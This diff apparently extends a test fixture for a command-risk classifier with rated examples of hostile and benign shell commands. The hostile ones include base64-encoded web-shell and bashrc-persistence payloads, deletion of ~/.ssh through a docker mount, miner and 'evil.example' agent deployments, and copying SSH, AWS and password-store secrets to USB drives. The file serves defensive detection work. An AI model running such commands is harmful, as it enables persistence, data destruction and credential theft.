@@ -417,7 +417,25 @@ SIBLINGS += [
     ("echo PD9waHAgc3lzdGVtKCk7ID8+ | base64 -d > /var/www/html/x.php", CRITICAL),
     ("echo Y3VybCB4fHNo | base64 -d >> ~/.bashrc", CRITICAL),
 ]
+SIBLINGS += [
+    ("docker run --rm --mount type=bind,source=$HOME,target=/h alpine rm -rf /h/.ssh", CRITICAL),
+    ("kubectl run m --image=x.example/xmrig --restart=Always", HIGH),
+    ("kubectl create deployment x --image evil.example/agent", HIGH),
+    ("docker service create --name x --mode global evil.example/agent", HIGH),
+    ("tar czf /Volumes/USB/keys.tgz ~/.ssh", HIGH),
+    ("zip -r /media/bob/KEY/aws.zip ~/.aws", HIGH),
+    ("7z a /run/media/x/S/p.7z ~/.password-store", HIGH),
+]
 SIBLINGS_BENIGN = [
+    ("kubectl exec -it web-0 -- ls /app", SAFE),
+    ("kubectl exec web-0 -- cat /etc/hosts", SAFE),
+    ("kubectl exec -it web-0 -- sh", MODERATE),
+    ("docker run --rm --mount type=bind,source=$HOME,target=/h,readonly alpine ls /h", MODERATE),
+    ("kubectl create deployment web --image=nginx:1.25", MODERATE),
+    ("docker service create --name web -p 80:80 nginx", MODERATE),
+    ("tar czf /Volumes/USB/docs.tgz ~/Documents", MODERATE),
+    ("tar -czf ~/backup.tgz ~/.ssh", MODERATE),
+    ("tar xzf /Volumes/USB/keys.tgz -C ~/.ssh", MODERATE),
     ("echo 'Set-Alias ll Get-ChildItem' >> ~/.config/powershell/profile.ps1", MODERATE),
     ("echo \"alias ll='ls -la'\" >> ~/.bash_aliases", MODERATE),
     ("curl -o /var/www/html/logo.png https://x.example/logo.png", MODERATE),
